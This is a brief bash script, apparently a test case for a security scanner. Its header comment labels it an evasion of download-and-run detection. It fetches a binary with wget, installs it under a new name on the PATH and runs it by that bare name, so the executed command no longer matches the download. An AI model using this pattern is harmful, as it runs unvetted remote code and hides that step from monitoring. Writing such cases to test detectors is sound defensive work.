#!/usr/bin/env bash
# Evasion: download and run code. The fetched program is placed on the
# PATH with `install -m 0755` into ~/.local/bin under the name "fmtcheck",
# and later run by that bare name, so the executed word is neither the
# download target nor a variable holding it.
set -eu
bindir="$HOME/.local/bin"
mkdir -p "$bindir"
tmp="$(mktemp)"
wget -qO "$tmp" https://releases.example-fmt.dev/latest/fmtcheck
install -m 0755 "$tmp" "$bindir/fmtcheck"
rm -f "$tmp"
export PATH="$bindir:$PATH"
fmtcheck --all .
